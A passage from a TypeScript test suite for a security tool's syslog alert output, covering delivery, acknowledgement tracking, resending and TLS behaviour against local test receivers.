    receiver.on('message', (bytes) => received.push(JSON.parse(parseSyslog(bytes.toString('utf8')).msg).id as string));
    // A resolver that does not answer (until told to): the C library's own bound is resolv.conf's
    // timeout x attempts x servers, 10 s by default and minutes with other settings.
    let lookups = 0;
    let answered = false;
    let answer: (address: { address: string; family: number }) => void = () => undefined;
    const resolver = (host: string) => {
      lookups++;
      assert.equal(host, 'siem.example.org');
      if (answered) return Promise.resolve({ address: '127.0.0.1', family: 4 });
      return new Promise<{ address: string; family: number }>((resolve) => (answer = resolve));
    };
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: siem.example.org, port: ${receiver.address().port}, timeout_ms: 200 } } ] }`);
    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { resolve: resolver });
    const queue = new OutputQueue(transport, { name: 's', capacity: 10, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
    try {
      const alert = makeAlert();
      const start = Date.now();
      queue.push(queuedAlert(alert));
      await waitFor('a failed attempt', () => queue.counters.failed_attempts >= 1);
      assert.ok(Date.now() - start < 1000, `after ${Date.now() - start} ms`);
      assert.equal(queue.lastError?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
      assert.match(queue.lastError?.message ?? '', /no answer from the resolver for siem\.example\.org within 200 ms/);
      await waitFor('more failed attempts', () => queue.counters.failed_attempts >= 3);
      assert.deepEqual({ sent: queue.counters.sent, failed: queue.counters.failed, queued: queue.queued }, { sent: 0, failed: 0, queued: 1 }, 'the alert keeps its place');
      assert.equal(lookups, 1, 'the attempts wait on the lookup in progress');
      answered = true;
      answer({ address: '127.0.0.1', family: 4 });
      await waitFor('the datagram', () => received.length === 1);
      assert.deepEqual(received, [alert.id]);
      await waitFor('sent', () => queue.counters.sent === 1);
    } finally {
      await queue.close();
      receiver.close();
    }
  });

  it('reads what the peer has not acknowledged of a connection from the kernel table, IPv4 and IPv6', async () => {
    assert.equal(procEnd('127.0.0.1', 514, 'LE'), '0100007F:0202');
    assert.equal(procEnd('127.0.0.1', 514, 'BE'), '7F000001:0202');
    assert.equal(procEnd('::1', 6514, 'LE'), '00000000000000000000000001000000:1972');
    assert.equal(procEnd('::ffff:10.0.0.1', 1, 'LE'), '0000000000000000FFFF00000100000A:0001');
    assert.equal(procEnd('2001:db8::1%eth0', 1, 'BE'), '20010DB8000000000000000000000001:0001');
    assert.equal(procEnd('siem', 1), undefined);
    const table = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0100007F:9C40 0100007F:0202 01 0000A000:00000000 01:00000014 00000000     0        0 4242 1\n';
    assert.equal(unacknowledgedIn(table, '0100007F:9C40', '0100007F:0202'), 0xa000);
    assert.equal(unacknowledgedIn(table, '0100007F:9C41', '0100007F:0202'), 'gone');
    // A real connection over each family: everything written is acknowledged, then it is gone.
    for (const host of ['127.0.0.1', '::1']) {
      const server = net.createServer((socket) => socket.resume());
      await new Promise<void>((resolve) => server.listen(0, host, resolve));
      const socket = net.connect((server.address() as net.AddressInfo).port, host);
      await new Promise((resolve) => socket.once('connect', resolve));
      await new Promise((resolve) => socket.write(Buffer.alloc(10_000), resolve));
      for (let tries = 0; (await unacknowledgedBytes(socket)) !== 0; tries++) {
        assert.ok(tries < 100, `acknowledged over ${host}`);
        await sleep(10);
      }
      socket.destroy();
      await new Promise((resolve) => socket.once('close', resolve));
      assert.equal(await unacknowledgedBytes({ localAddress: '127.0.0.1', localPort: 1, remoteAddress: '127.0.0.1', remotePort: 1 }), 'gone');
      assert.equal(await unacknowledgedBytes(socket), 'gone');
      await new Promise((resolve) => server.close(resolve));
    }
    assert.equal(await unacknowledgedBytes({ localAddress: '127.0.0.1', localPort: 1, remoteAddress: '127.0.0.1', remotePort: 2 }, path.join(tempDir(), 'no-such-table')), 'unknown');
  });

  for (const transport of ['tcp', 'tls'] as const) {
    it(`notices within timeout_ms a ${transport.toUpperCase()} receiver that acknowledges nothing, and sends its unacknowledged alerts again`, async () => {
      // A receiver whose host is gone without a FIN or a reset acknowledges nothing, and the kernel
      // retransmits for ~15 minutes: written into the send buffer, alerts counted as sent were
      // lost. Here the first connection is accepted and never read (its window fills, then
      // nothing more is acknowledged); later connections are read.
      const stalled: string[] = [];
      const later: string[] = [];
      const sockets: net.Socket[] = [];
      const onSocket = (socket: net.Socket) => {
        sockets.push(socket);
        socket.on('error', () => socket.destroy());
        if (sockets.length === 1) socket.pause();
        else socket.on('data', frames(later));
      };
      const server = transport === 'tls' ? tls.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, onSocket) : net.createServer(onSocket);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      try {
        const timeoutMs = 500;
        const tlsYaml = transport === 'tls' ? `, tls: { ca_file: ${pki.paths.caCert} }` : '';
        const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: ${transport}, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port}, timeout_ms: ${timeoutMs}, max_message_bytes: 65507${tlsYaml} } } ] }`);
        // 40 kB each: the window of the unread connection holds a few of them.
        const alerts = Array.from({ length: 12 }, () => makeAlert({ process: { pid: 1, executable: '/usr/bin/bash', command_line: 'x'.repeat(40_000) } }));
        const start = Date.now();
        for (const alert of alerts) outputs.send(alert);
        await waitFor('the dead connection noticed', () => statsOf(outputs, 's').failed_attempts > 0, 10_000);
        const noticedMs = Date.now() - start;
        let stats = statsOf(outputs, 's');
        assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
        assert.match(stats.last_error?.message ?? '', /acknowledged nothing for 500 ms, with \d+ alerts written and not acknowledged; the connection is taken as dead and closed, and they are sent again/);
        assert.ok(stats.sent < alerts.length, `only what the receiver acknowledged counts as sent (${stats.sent})`);
        // Found by a reading of the table: within timeout_ms and a quarter of it, plus a reading.
        assert.ok(noticedMs < timeoutMs * 1.25 + 1000, `noticed after ${noticedMs} ms`);
        await waitFor('every alert delivered', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
        stats = statsOf(outputs, 's');
        assert.deepEqual({ failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
        // What the dead connection held went again, first, on the next one.
        assert.ok(stats.resent > 0 && stats.resent <= later.length, `resent ${stats.resent} of ${later.length}`);
        // What the first connection's host acknowledged is in its receive buffer: read it now.
        sockets[0]!.on('data', frames(stalled)).resume();
        await waitFor('the stalled connection read', () => stalled.length >= stats.sent - later.length);
        // Every alert reached the receiver, in order on each connection; the one that was out when the
        // connection was given up may have come twice (at least once).
        const ids = alerts.map((a) => a.id);
        assert.deepEqual(later, ids.slice(ids.length - later.length));
        assert.deepEqual(stalled.slice(0, ids.length - later.length), ids.slice(0, ids.length - later.length));
        assert.deepEqual(new Set([...stalled, ...later]), new Set(ids));
      } finally {
        for (const socket of sockets) socket.destroy();
        await new Promise((resolve) => server.close(resolve));
      }
    });
  }

  it('sends again, first, the alerts a receiver that resets the connection had not been seen to acknowledge', async () => {
    const first: string[] = [];
    const second: string[] = [];
    const sockets: net.Socket[] = [];
    const server = net.createServer((socket) => {
      sockets.push(socket);
      socket.on('error', () => socket.destroy());
      socket.on('data', frames(sockets.length === 1 ? first : second));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
      const alerts = Array.from({ length: 10 }, () => makeAlert());
      const ids = alerts.map((a) => a.id);
      for (const alert of alerts.slice(0, 5)) outputs.send(alert);
      await waitFor('five read', () => first.length === 5);
      // The receiver stops reading; its host still takes (and acknowledges) the next five, then
      // it resets the connection (RST), which throws them away unread: without sending again,
      // they would be lost although written.
      sockets[0]!.pause();
      for (const alert of alerts.slice(5)) outputs.send(alert);
      await waitFor('ten handed over', () => statsOf(outputs, 's').queued === statsOf(outputs, 's').unacknowledged);
      sockets[0]!.resetAndDestroy();
      await waitFor('every alert acknowledged', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
      await waitFor('every alert read again', () => second.length === 10);
      const stats = statsOf(outputs, 's');
      assert.deepEqual(first, ids.slice(0, 5));
      // The reset came before a reading of the table (every 2 s) released any of them: all
      // ten go again, in order, on the next connection (at least once).
      assert.deepEqual(second, ids);
      assert.equal(stats.resent, 10);
      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE');
      assert.match(stats.last_error?.message ?? '', /ECONNRESET; the 10 alerts it had not acknowledged are sent again/);
      assert.deepEqual({ failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('gives up, after max_attempts connections, an alert the receiver resets the connection on every time', async () => {
    let connections = 0;
    const server = net.createServer((socket) => {
      connections++;
      socket.on('error', () => socket.destroy());
      socket.once('data', () => socket.resetAndDestroy());
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const sink = new LogSink();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`, logger(sink));
      const alert = makeAlert();
      outputs.send(alert);
      await waitFor('the alert given up', () => statsOf(outputs, 's').failed === 1, 10_000);
      const stats = statsOf(outputs, 's');
      assert.deepEqual({ sent: stats.sent, queued: stats.queued, unacknowledged: stats.unacknowledged, dropped: stats.dropped }, { sent: 0, queued: 0, unacknowledged: 0, dropped: 0 });
      assert.equal(connections, quick.max_attempts);
      assert.equal(stats.resent, quick.max_attempts - 1);
      const line = sink.lines().find((l) => l.alert_id === alert.id);
      assert.equal(line?.attempts, quick.max_attempts);
      assert.equal(line?.code, 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE');
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('counts in resent only the alerts written again, not a rewrite that a reset connection refused', async () => {
    // Connection 1 reads the three alerts, then resets (they are held: no reading of the table
    // yet). Connection 2 resets just before the output uses it: the reset reaches the output's
    // kernel while its event loop is busy, so the rewrite that follows the confirmation wait
    // fails at its first write, and nothing is written again on it. Connection 3 reads.
    const got: string[][] = [];
    const sockets: net.Socket[] = [];
    const timers = new Set<NodeJS.Timeout>();
    const server = net.createServer((socket) => {
      sockets.push(socket);
      const mine: string[] = [];
      got.push(mine);
      socket.on('error', () => socket.destroy());
      socket.on('data', frames(mine));
      if (sockets.length !== 2) return;
      const timer = setTimeout(() => {
        timers.delete(timer);
        // Reset from the check phase, then busy past the output's confirmation wait
        // (STREAM_CONFIRM_WAIT_MS): at the next turn of the event loop its timer runs, and the
        // rewrite with it, before the loop polls the socket and sees the reset.
        setImmediate(() => {
          socket.resetAndDestroy();
          const until = performance.now() + 250;
          while (performance.now() < until);
        });
      }, 20);
      timers.add(timer);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
      const alerts = Array.from({ length: 3 }, () => makeAlert());
      const ids = alerts.map((a) => a.id);
      for (const alert of alerts) outputs.send(alert);
      await waitFor('three read', () => got[0]?.length === 3);
      assert.equal(statsOf(outputs, 's').unacknowledged, 3);
      sockets[0]!.resetAndDestroy();
      await waitFor('every alert acknowledged', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
      await waitFor('every alert read again', () => got[2]?.length === 3);
      const stats = statsOf(outputs, 's');
      assert.equal(sockets.length, 3);
      assert.deepEqual(got, [ids, [], ids]);
      // Written again once (on connection 3), not once per connection that was opened for it.
      assert.equal(stats.resent, 3);
      assert.ok(stats.failed_attempts >= 2, `failed_attempts ${stats.failed_attempts}`);
      assert.deepEqual({ failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
    } finally {
      for (const timer of timers) clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  for (const transport of ['tcp', 'tls'] as const) {
    it(`sends nothing twice to a ${transport.toUpperCase()} receiver that reads every alert and then ends the connection cleanly (FIN)`, async () => {
      // The alerts are held (the table is read every 2 s) when the receiver ends the connection:
      // one more reading of the table, the connection half-open, shows its TCP acknowledged them.
      const got: string[][] = [];
      const sockets: net.Socket[] = [];
      const onSocket = (socket: net.Socket) => {
        sockets.push(socket);
        const mine: string[] = [];
        got.push(mine);
        socket.on('error', () => socket.destroy());
        socket.on('data', frames(mine));
      };
      const server = transport === 'tls' ? tls.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, onSocket) : net.createServer(onSocket);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      try {
        const tlsYaml = transport === 'tls' ? `, tls: { ca_file: ${pki.paths.caCert} }` : '';
        const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: ${transport}, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port}${tlsYaml} } } ] }`);
        const alerts = Array.from({ length: 10 }, () => makeAlert());
        const ids = alerts.map((a) => a.id);
        for (const alert of alerts.slice(0, 5)) outputs.send(alert);
        await waitFor('five read', () => got[0]?.length === 5);
        assert.equal(statsOf(outputs, 's').unacknowledged, 5);
        const closed = new Promise((resolve) => sockets[0]!.once('close', resolve));
        sockets[0]!.end();
        await closed;
        for (const alert of alerts.slice(5)) outputs.send(alert);
        await waitFor('every alert acknowledged', () => statsOf(outputs, 's').sent === alerts.length, 10_000);
        await waitFor('five read on the second connection', () => (got[1]?.length ?? 0) >= 5);
        // Anything sent twice would have arrived by now: the second connection's alerts come in order after any resent ones.
        const stats = statsOf(outputs, 's');
        assert.deepEqual(got, [ids.slice(0, 5), ids.slice(5)]);
        assert.deepEqual({ resent: stats.resent, failed_attempts: stats.failed_attempts, failed: stats.failed, dropped: stats.dropped, queued: stats.queued, unacknowledged: stats.unacknowledged }, { resent: 0, failed_attempts: 0, failed: 0, dropped: 0, queued: 0, unacknowledged: 0 });
      } finally {
        for (const socket of sockets) socket.destroy();
        await new Promise((resolve) => server.close(resolve));
      }
    });
  }

  it('hands 500 alerts over without waiting for their acknowledgements, with a few readings of the kernel table, to a receiver that reads every 50 ms', async () => {
    // The receiver reads what has arrived, then nothing for 50 ms, again and again: each alert
    // waiting for its acknowledgement (one reading of the table, then the next alert) would take
    // hundreds of rounds and readings; here alerts go as fast as the connection takes them, and
    // a reading every 2 s (every 0.5 s while the buffer of held alerts is full) releases them.
    const received: string[] = [];
    const sockets: net.Socket[] = [];
    const timers = new Set<NodeJS.Timeout>();
    const server = net.createServer((socket) => {
      sockets.push(socket);
      socket.on('error', () => socket.destroy());
      socket.on('data', frames(received));
      const round = (): void => {
        socket.pause();
        const timer = setTimeout(() => {
          timers.delete(timer);
          socket.resume();
          setImmediate(round);
        }, 50);
        timers.add(timer);
      };
      round();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
    let readings = 0;
    // The real reader of /proc/net/tcp, counted.
    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { maxHeldAlerts: 200, unacknowledged: (socket) => (readings++, unacknowledgedBytes(socket)) });
    const queue = new OutputQueue(transport, { name: 's', capacity: 1000, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
    try {
      const alerts = Array.from({ length: 500 }, () => makeAlert());
      const start = Date.now();
      for (const alert of alerts) queue.push(queuedAlert(alert));
      await waitFor('all 500 handed over', () => queue.queued === queue.unacknowledged, 20_000);
      const handedMs = Date.now() - start;
      await waitFor('all 500 acknowledged', () => queue.counters.sent === 500, 20_000);
      const doneMs = Date.now() - start;
      await waitFor('all 500 read', () => received.length === 500);
      assert.deepEqual(received, alerts.map((a) => a.id), 'each once, in order');
      // One round each would be 25 s; a reading of the table each, 500 readings.
      assert.ok(handedMs < 5000, `handed over in ${handedMs} ms`);
      assert.ok(doneMs < 8000, `acknowledged in ${doneMs} ms`);
      assert.ok(readings <= 20, `${readings} readings`);
      assert.deepEqual({ failed_attempts: queue.counters.failed_attempts, resent: transport.resent, unacknowledged: queue.unacknowledged }, { failed_attempts: 0, resent: 0, unacknowledged: 0 });
    } finally {
      await queue.close();
      for (const timer of timers) clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('counts written alerts as delivered where the kernel table cannot be read, finding that out once per connection', async () => {
    const receiver = new StreamReceiver();
    const port = await receiver.start();
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, timeout_ms: 1000 } } ] }`);
    let readings = 0;
    // A table that is not there, as on a system without /proc.
    const missing = path.join(tempDir(), 'no-proc-net-tcp');
    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { unacknowledged: (socket) => (readings++, unacknowledgedBytes(socket, missing)) });
    const queue = new OutputQueue(transport, { name: 's', capacity: 100, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
    try {
      const push = (count: number) => {
        for (let i = 0; i < count; i++) {
          const alert = makeAlert();
          queue.push(queuedAlert(alert));
        }
      };
      push(5);
      await waitFor('the first reading', () => readings === 1);
      await waitFor('the five released', () => queue.counters.sent === 5);
      // Then written is delivered at once, with no reading.
      push(20);
      await waitFor('twenty-five sent', () => queue.counters.sent === 25);
      assert.equal(queue.unacknowledged, 0);
      await sleep(400);
      assert.equal(readings, 1);
      assert.equal(receiver.messages.length, 25);
    } finally {
      await queue.close();
      await receiver.close();
    }
  });

  it('takes a reading of the kernel table that fails (rejects) as one that cannot be read: no unhandled rejection, no connection taken for dead', async () => {
    const receiver = new StreamReceiver();
    const port = await receiver.start();
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, timeout_ms: 1000 } } ] }`);
    let readings = 0;
    const unhandled: unknown[] = [];
    const onUnhandled = (reason: unknown): void => void unhandled.push(reason);
    process.on('unhandledRejection', onUnhandled);
    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', {
      unacknowledged: (socket) => (++readings === 1 ? Promise.reject(new Error('the reader failed')) : unacknowledgedBytes(socket)),
    });
    const queue = new OutputQueue(transport, { name: 's', capacity: 100, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
    try {
      for (let i = 0; i < 5; i++) {
        const alert = makeAlert();
        queue.push(queuedAlert(alert));
      }
      await waitFor('the five released', () => queue.counters.sent === 5, 5000);
      // Past timeout_ms: a reading left in flight for good would have had the connection closed and its alerts sent again.
      await sleep(1500);
      assert.deepEqual({ sent: queue.counters.sent, resent: transport.resent, failed_attempts: queue.counters.failed_attempts, unhandled }, { sent: 5, resent: 0, failed_attempts: 0, unhandled: [] });
      assert.equal(receiver.messages.length, 5);
    } finally {
      process.off('unhandledRejection', onUnhandled);
      await queue.close();
      await receiver.close();
    }
  });

  it('holds, of each alert written and not acknowledged, its frame and its ids: not the alert nor its JSON', async () => {
    // Alerts of about 200 kB of JSON each (their events), cut to max_message_bytes: the bound of
    // the held alerts (1,024 and 4 MiB) is about their frames, so a held alert must keep nothing
    // more of any size. Before, each kept the alert and its JSON until acknowledged.
    const receiver = new StreamReceiver();
    const port = await receiver.start();
    const [config] = outputsConfig(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, timeout_ms: 60000 } } ] }`);
    // Readings that see nothing acknowledged: every alert written stays held.
    const transport = new SyslogTransport('s', config!.syslog!, 'hades-test', { unacknowledged: async () => 1 << 30 });
    const queue = new OutputQueue(transport, { name: 's', capacity: 100, maxAttempts: 5, backoffMs: 10, backoffMaxMs: 20, log: logger() });
    try {
      const alerts = Array.from({ length: 20 }, (_, i) => makeAlert({ events: Array.from({ length: 10 }, (_, j) => ({ process: { args: [`${'x'.repeat(20_000)}${i}-${j}`] } })) }));
      assert.ok(JSON.stringify(alerts[0]).length > 200_000);
      for (const alert of alerts) queue.push(queuedAlert(alert));
      await waitFor('all twenty written and held', () => queue.unacknowledged === alerts.length);
      await waitFor('all twenty read', () => receiver.messages.length === alerts.length);
      const held = transport['held'].heldAlerts();
      const kept = held.map((entry) => JSON.stringify(entry.item).length);
      assert.ok(kept.every((chars) => chars < 200), `held besides their frames: ${kept.join(', ')} characters of JSON`);
      assert.deepEqual(held.map((entry) => entry.item), alerts.map((a) => ({ id: a.id, rule: a.rule.id })));
      for (const entry of held) {
        assert.ok(entry.frame.length <= config!.syslog!.max_message_bytes + 5, `a frame of ${entry.frame.length} bytes`);
        // Its own memory: a slice of Node's shared 8 KiB pool would keep the whole slab alive.
        assert.equal(entry.frame.buffer.byteLength, entry.frame.length, 'a frame in a shared pool');
      }
      assert.equal(transport['held'].bytes, held.reduce((sum, entry) => sum + entry.frame.length, 0));
    } finally {
      await queue.close();
      await receiver.close();
    }
  });

  it('says at close how many written alerts the receiver had not acknowledged, and counts them as dropped', async () => {
    const sockets: net.Socket[] = [];
    // A receiver that reads nothing: its window fills and the rest stays unacknowledged.
    const server = net.createServer((socket) => {
      sockets.push(socket);
      socket.on('error', () => socket.destroy());
      socket.pause();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const sink = new LogSink();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port}, max_message_bytes: 65507 } } ] }`, logger(sink));
      const alerts = Array.from({ length: 12 }, () => makeAlert({ process: { pid: 1, executable: '/usr/bin/bash', command_line: 'x'.repeat(40_000) } }));
      for (const alert of alerts) outputs.send(alert);
      await waitFor('all written', () => statsOf(outputs, 's').unacknowledged === alerts.length);
      await outputs.close(600);
      const stats = statsOf(outputs, 's');
      assert.ok(stats.dropped > 0, 'the window of an unread connection cannot take 480 kB');
      assert.equal(stats.sent + stats.dropped, alerts.length);
      assert.deepEqual({ queued: stats.queued, unacknowledged: stats.unacknowledged, failed: stats.failed }, { queued: 0, unacknowledged: 0, failed: 0 });
      const line = sink.lines().find((l) => /not acknowledged at close and may be lost/.test(l.msg ?? l.message ?? ''));
      assert.ok(line, sink.text);
      assert.equal(line.code, 'HADES_ERR_ALERT_OUTPUT_DROPPED');
      assert.equal(line.unacknowledged, stats.dropped);
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  for (const transport of ['tcp', 'tls'] as const) {
    it(`resets a ${transport.toUpperCase()} connection it gives up on: the kernel does not go on sending it what the receiver has not taken`, async () => {
      // Every connection accepted and never read: each is given up after timeout_ms with alerts
      // unacknowledged, which go again on the next. Closed with a FIN, each would linger (FIN-WAIT-1)
      // with its send buffer, the kernel sending it to the receiver once it reads again: the same
      // alerts once per connection given up.
      const sockets: net.Socket[] = [];
      const onSocket = (socket: net.Socket): void => {
        sockets.push(socket);
        socket.pause();
        socket.on('error', () => socket.destroy());
      };
      const server = transport === 'tls' ? tls.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, onSocket) : net.createServer(onSocket);
      // Every connection, TLS handshakes under way included: closed at the end, or the server's close would wait for them.
      const connections: net.Socket[] = [];
      server.on('connection', (socket: net.Socket) => connections.push(socket));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const port = (server.address() as net.AddressInfo).port;
      let outputs: AlertOutputs | undefined;
      try {
        const tlsYaml = transport === 'tls' ? `, tls: { ca_file: ${pki.paths.caCert} }` : '';
        outputs = create(`alerts: { outputs: [ { name: s, type: syslog, retry: { max_attempts: 100, backoff_ms: 10, backoff_max_ms: 40 }, syslog: { transport: ${transport}, host: 127.0.0.1, port: ${port}, timeout_ms: 300, max_message_bytes: 65507${tlsYaml} } } ] }`);
        // More than the kernel's buffers of one connection take (several MB on loopback).
        const running = outputs;
        for (let i = 0; i < 400; i++) running.send(makeAlert({ process: { pid: 1, executable: '/usr/bin/bash', command_line: 'x'.repeat(60_000) } }));
        await waitFor('two connections given up', () => statsOf(running, 's').failed_attempts >= 2, 15_000);
        const lingering = execFileSync('ss', ['-Htn', 'state', 'fin-wait-1', `( dport = :${port} )`], { encoding: 'utf8' }).trim();
        assert.equal(lingering, '', 'no connection given up still sending');
        // Connections, not sockets handed to onSocket: on a loaded machine a TLS handshake may
        // take longer than timeout_ms, and that connection is given up before it is secure.
        assert.ok(connections.length >= 2, `${connections.length} connections`);
      } finally {
        await outputs?.close();
        for (const socket of [...sockets, ...connections]) socket.destroy();
        await new Promise((resolve) => server.close(resolve));
      }
    });
  }

  it('retries while the TCP receiver is down and delivers once it is up, dropping the oldest beyond the queue', async () => {
    const port = await freePort();
    const sink = new LogSink();
    const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, queue: 3, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${port} } } ] }`, logger(sink));
    const alerts = Array.from({ length: 10 }, () => makeAlert());
    for (const alert of alerts) outputs.send(alert);
    await waitFor('refusals', () => statsOf(outputs, 's').failed_attempts >= 3);
    let stats = statsOf(outputs, 's');
    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_REFUSED');
    assert.equal(stats.dropped, 6);
    assert.equal(stats.queued, 4);
    assert.equal(stats.failed, 0);
    const receiver = new StreamReceiver();
    await receiver.start(port);
    try {
      await waitFor('delivery', () => receiver.messages.length === 4);
      // The one being retried and the three newest; the six between them were dropped.
      assert.deepEqual(
        receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id),
        [alerts[0]!.id, alerts[7]!.id, alerts[8]!.id, alerts[9]!.id],
      );
      await waitFor('four sent', () => statsOf(outputs, 's').sent === 4);
      stats = statsOf(outputs, 's');
      assert.equal(stats.sent, 4);
      assert.equal(stats.queued, 0);
      assert.ok(stats.retries >= 3 && stats.retries === stats.failed_attempts, `${stats.retries} retries, ${stats.failed_attempts} failed attempts`);
      const lines = sink.lines();
      assert.equal(lines.filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_REFUSED').length, 1, 'one warning per outage');
      assert.ok(lines.some((l) => l.msg === "alert output 's': delivering again" && l.dropped === 6));
    } finally {
      await outputs.close();
      await receiver.close();
    }
  });

  it('sends over TLS with a client certificate, verified against the configured CA', async () => {
    const receiver = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem, ca: pki.caPem, requestCert: true, rejectUnauthorized: true });
    const port = await receiver.start();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tls, host: 127.0.0.1, port: ${port}, tls: { ca_file: ${pki.paths.caCert}, cert_file: ${clientCertFile}, key_file: ${clientKeyFile} } } } ] }`);
      const alert = makeAlert();
      outputs.send(alert);
      await waitFor('a message', () => receiver.messages.length === 1);
      assert.deepEqual(JSON.parse(parseSyslog(receiver.messages[0]!).msg), alert);
      assert.equal(receiver.peers[0]?.subject?.CN, 'ag_alerts');
      assert.equal(statsOf(outputs, 's').target, `tls://127.0.0.1:${port}`);
    } finally {
      await receiver.close();
    }
  });

  it('counts nothing as sent to a TLS receiver that refuses the client after the handshake (TLS 1.3, no client certificate)', async () => {
    // Under TLS 1.3 the client's handshake is over before the server checks the client's
    // certificate: what was written at once was counted as sent and lost, without a word.
    const receiver = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem, ca: pki.caPem, requestCert: true, rejectUnauthorized: true, minVersion: 'TLSv1.3' });
    const port = await receiver.start();
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tls, host: 127.0.0.1, port: ${port}, tls: { ca_file: ${pki.paths.caCert} } } } ] }`);
      outputs.send(makeAlert());
      outputs.send(makeAlert());
      await waitFor('failures', () => statsOf(outputs, 's').failed_attempts >= 2);
      const stats = statsOf(outputs, 's');
      assert.deepEqual({ sent: stats.sent, failed: stats.failed, queued: stats.queued }, { sent: 0, failed: 0, queued: 2 });
      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TLS');
      assert.match(stats.last_error?.message ?? '', /certificate required/);
      assert.deepEqual(receiver.messages, []);
    } finally {
      await receiver.close();
    }
  });

  it('counts nothing as sent to a TCP receiver that closes every connection as soon as it accepts it', async () => {
    // rsyslog past its MaxSessions, or a peer it does not permit: accepted, then closed unread.
    const server = net.createServer((socket) => socket.destroy());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${(server.address() as net.AddressInfo).port} } } ] }`);
      outputs.send(makeAlert());
      await waitFor('failures', () => statsOf(outputs, 's').failed_attempts >= 2);
      const stats = statsOf(outputs, 's');
      assert.deepEqual({ sent: stats.sent, queued: stats.queued }, { sent: 0, queued: 1 });
      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_UNREACHABLE');
    } finally {
